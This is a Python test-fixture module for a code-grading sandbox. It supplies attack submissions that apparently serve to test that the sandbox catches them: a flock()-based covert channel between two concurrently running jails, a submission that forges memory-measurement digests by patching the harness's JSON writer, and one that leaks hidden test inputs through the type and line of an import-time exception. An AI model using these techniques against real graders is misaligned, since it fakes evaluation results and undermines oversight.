"""Learner files for review 8's attacks (tests/sandbox/test_attack_review8.py and
tests/server/test_attack_review8.py): a covert channel between two jails that run at once.

A submission's regular calls and its measured (memory) case run in two jails at the same time
(``exercises.measurement.Pools.visit``). Both jails see the same read-only files (torch's, bound
into ``/jail/site``), and ``flock`` on an inode is shared by every process that opens it,
whatever its namespaces: one lock is one bit, readable by the other jail with a non-blocking try.
:func:`channel` is that channel (64 data bits a round, two flags a side), in learner code.
"""

from __future__ import annotations

#: Learner-side code: ``_send(direction, payload, deadline)`` and ``_recv(direction, deadline)``
#: over flock()s of 136 of torch's files (two directions of 68 files), plus ``_ROLE``, a 137th.
#: Each attack below takes its own files (``channel(first)``), so two of them never cross.
_CHANNEL = r'''
import fcntl as _fcntl, glob as _glob, os as _os, struct as _struct, time as _time

_PATHS = sorted(_glob.glob("/jail/site/torch/*/*.py"))[FIRST:FIRST + 137]
_FD = [_os.open(p, _os.O_RDONLY) for p in _PATHS]
_ROLE = _FD[136]


def _held(fd):
    try:
        _fcntl.flock(fd, _fcntl.LOCK_SH | _fcntl.LOCK_NB)
    except BlockingIOError:
        return True
    _fcntl.flock(fd, _fcntl.LOCK_UN)
    return False


def _side(direction):
    fd = _FD[68 * direction: 68 * direction + 68]
    return fd[:64], fd[64:66], fd[66:68]


def _wait(cond, deadline):
    while not cond():
        if _time.monotonic() > deadline:
            raise TimeoutError
        _time.sleep(0.002)


def _send(direction, payload, deadline):
    data, s, r = _side(direction)
    payload = _struct.pack("<I", len(payload)) + payload
    payload += b"\0" * (-len(payload) % 8)
    for k in range(len(payload) // 8):
        word = int.from_bytes(payload[8 * k: 8 * k + 8], "little")
        for i in range(64):
            _fcntl.flock(data[i], _fcntl.LOCK_EX if word >> i & 1 else _fcntl.LOCK_UN)
        _fcntl.flock(s[k % 2], _fcntl.LOCK_EX)
        _fcntl.flock(s[(k + 1) % 2], _fcntl.LOCK_UN)
        _wait(lambda: _held(r[k % 2]) and not _held(r[(k + 1) % 2]), deadline)


def _recv(direction, deadline):
    data, s, r = _side(direction)
    out, k, need = b"", 0, None
    while need is None or len(out) < need:
        _wait(lambda: _held(s[k % 2]) and not _held(s[(k + 1) % 2]), deadline)
        out += sum(_held(data[i]) << i for i in range(64)).to_bytes(8, "little")
        _fcntl.flock(r[k % 2], _fcntl.LOCK_EX)
        _fcntl.flock(r[(k + 1) % 2], _fcntl.LOCK_UN)
        k += 1
        if need is None:
            need = 4 + _struct.unpack("<I", out[:4])[0]
    return out[4:need]


def _harness_frame():
    """The frame of sandbox.harness.execute_calls that is calling us (its locals: the calls)."""
    import sys
    f = sys._getframe(1)
    while f is not None and "warmup_calls" not in f.f_locals:
        f = f.f_back
    return f
'''


def channel(first: int) -> str:
    """:data:`_CHANNEL` over the 137 files from the ``first``-th (of about 660)."""
    return _CHANNEL.replace("FIRST", str(first))

#: actor-loss computed with float64 copies of its inputs: right values, over the memory budget
#: (the exercise's own memory mistake, ``exercises/actor_loss/mutants.py:float64_inside``).
FLOAT64_ACTOR_LOSS = '''
import torch


def _impl(log_probs_new, log_probs_old, advantages, clip_range=0.2):
    if log_probs_old.shape != log_probs_new.shape or advantages.shape != log_probs_new.shape:
        raise ValueError("shapes differ")
    new, old, adv = log_probs_new.double(), log_probs_old.double(), advantages.double()
    ratio = torch.exp(new - old)
    clipped = torch.clamp(ratio, 1 - clip_range, 1 + clip_range)
    return (-torch.min(ratio * adv, clipped * adv).mean()).to(log_probs_new.dtype)
'''

#: The memory mistake above, alone: fails the memory check (the baseline).
FLOAT64_HONEST = FLOAT64_ACTOR_LOSS + '''

def compute_actor_loss(log_probs_new, log_probs_old, advantages, clip_range=0.2):
    return _impl(log_probs_new, log_probs_old, advantages, clip_range)
'''

#: The memory mistake, with its measured case computed in the *regular* jail (where nobody
#: measures memory or CPU) and the digests sent back over the channel: the measured jail only
#: writes them into its record. Falls back to honest work when the channel does not answer.
OFFLOADED_MEASURED_CASE = FLOAT64_ACTOR_LOSS + channel(0) + r'''
import json, struct, time

_state = {"done": False, "forged": False}


def _measured_visit(frame):
    call = frame.f_locals["calls"][0]
    spec = {"id": call.id, "seed": call.digest_seed, "args": [a.generate for a in call.args]}
    deadline = time.monotonic() + 5.0
    _send(0, json.dumps(spec).encode(), deadline)
    values = struct.unpack("<37d", _recv(1, deadline))
    forged = {f"c{call.id}.out": list(values[:3]), f"c{call.id}.grad.0": list(values[3:])}
    g = frame.f_globals
    dumps = g["_JSON_DUMPS"]

    def patched(obj, *a, **k):
        for c in obj.get("calls", []):
            if c.get("id") == call.id and "digests" in c:
                c["digests"] = forged
        return dumps(obj, *a, **k)

    g["_JSON_DUMPS"] = patched
    _state["forged"] = True


def _regular_visit(frame):
    try:
        spec = json.loads(_recv(0, time.monotonic() + 5.0))
    except TimeoutError:
        return
    g = frame.f_globals
    args = [g["generate_tensor"](a) for a in spec["args"]]
    args[0].requires_grad_(True)
    out = _impl(*args)
    (grad,) = torch.autograd.grad(out, args[0])
    values = g["digest"](out, spec["seed"]) + g["digest"](grad, spec["seed"])
    _send(1, struct.pack("<37d", *values), time.monotonic() + 5.0)


def compute_actor_loss(log_probs_new, log_probs_old, advantages, clip_range=0.2):
    if not _state["done"]:
        _state["done"] = True
        frame = _harness_frame()
        try:
            if frame.f_locals.get("warmup_calls"):
                _measured_visit(frame)
            else:
                _regular_visit(frame)
        except Exception as exc:
            print("channel failed:", type(exc).__name__)
    if _state["forged"] and log_probs_new.numel() > 100000:
        return log_probs_new.reshape(-1)[0] * 0.0  # attached and cheap: the forged digests stand in
    return _impl(log_probs_new, log_probs_old, advantages, clip_range)
'''

#: The import-phase verdict chosen from hidden inputs. Of the two jails, the first to get here goes
#: on and is given its inputs; the second waits at import for one byte of what the first received
#: (the measured jail's warm-up case, or the regular jail's first case), then raises at import: one
#: of 16 of Python's exception types, from one of 16 lines, so type and line spell the byte. The
#: runner believes it (it never gave that jail any input).
IMPORT_ERROR_FROM_THE_OTHER_JAIL = channel(200) + r'''
def _r0(e): raise e
def _r1(e): raise e
def _r2(e): raise e
def _r3(e): raise e
def _r4(e): raise e
def _r5(e): raise e
def _r6(e): raise e
def _r7(e): raise e
def _r8(e): raise e
def _r9(e): raise e
def _r10(e): raise e
def _r11(e): raise e
def _r12(e): raise e
def _r13(e): raise e
def _r14(e): raise e
def _r15(e): raise e


_PLACES = [_r0, _r1, _r2, _r3, _r4, _r5, _r6, _r7, _r8, _r9, _r10, _r11, _r12, _r13, _r14, _r15]
_TYPES = [ValueError, KeyError, IndexError, TypeError, LookupError, ArithmeticError, ZeroDivisionError,
          OverflowError, AttributeError, NameError, RuntimeError, NotImplementedError, AssertionError,
          UnicodeError, BufferError, EOFError]

try:
    _fcntl.flock(_ROLE, _fcntl.LOCK_EX | _fcntl.LOCK_NB)
    _FIRST = True
except BlockingIOError:
    _FIRST = False
if not _FIRST:
    try:
        _byte = _recv(0, _time.monotonic() + 4.0)[0]
    except TimeoutError:
        _byte = None
    if _byte is not None:
        _PLACES[_byte >> 4](_TYPES[_byte & 15]("nothing to see here"))

import torch

_sent = []


def compute_actor_loss(log_probs_new, log_probs_old, advantages, clip_range=0.2):
    if _FIRST and not _sent:
        _sent.append(True)
        frame = _harness_frame()
        calls = frame.f_locals["warmup_calls"] or frame.f_locals["calls"]
        first = frame.f_locals["inputs"][calls[0].args[0].tensor].reshape(-1)[0].item()
        try:
            _send(0, bytes([int(abs(first) * 1000) % 256]), _time.monotonic() + 4.0)
        except TimeoutError:
            pass
    ratio = torch.exp(log_probs_new - log_probs_old)
    return -torch.min(ratio * advantages, torch.clamp(ratio, 1 - clip_range, 1 + clip_range) * advantages).mean()
'''

#: Python's exception types and the function names of :data:`IMPORT_ERROR_FROM_THE_OTHER_JAIL`,
#: in the order that spells a byte (low nibble: type; high nibble: place).
LEAK_TYPES = ("ValueError", "KeyError", "IndexError", "TypeError", "LookupError", "ArithmeticError",
              "ZeroDivisionError", "OverflowError", "AttributeError", "NameError", "RuntimeError",
              "NotImplementedError", "AssertionError", "UnicodeError", "BufferError", "EOFError")
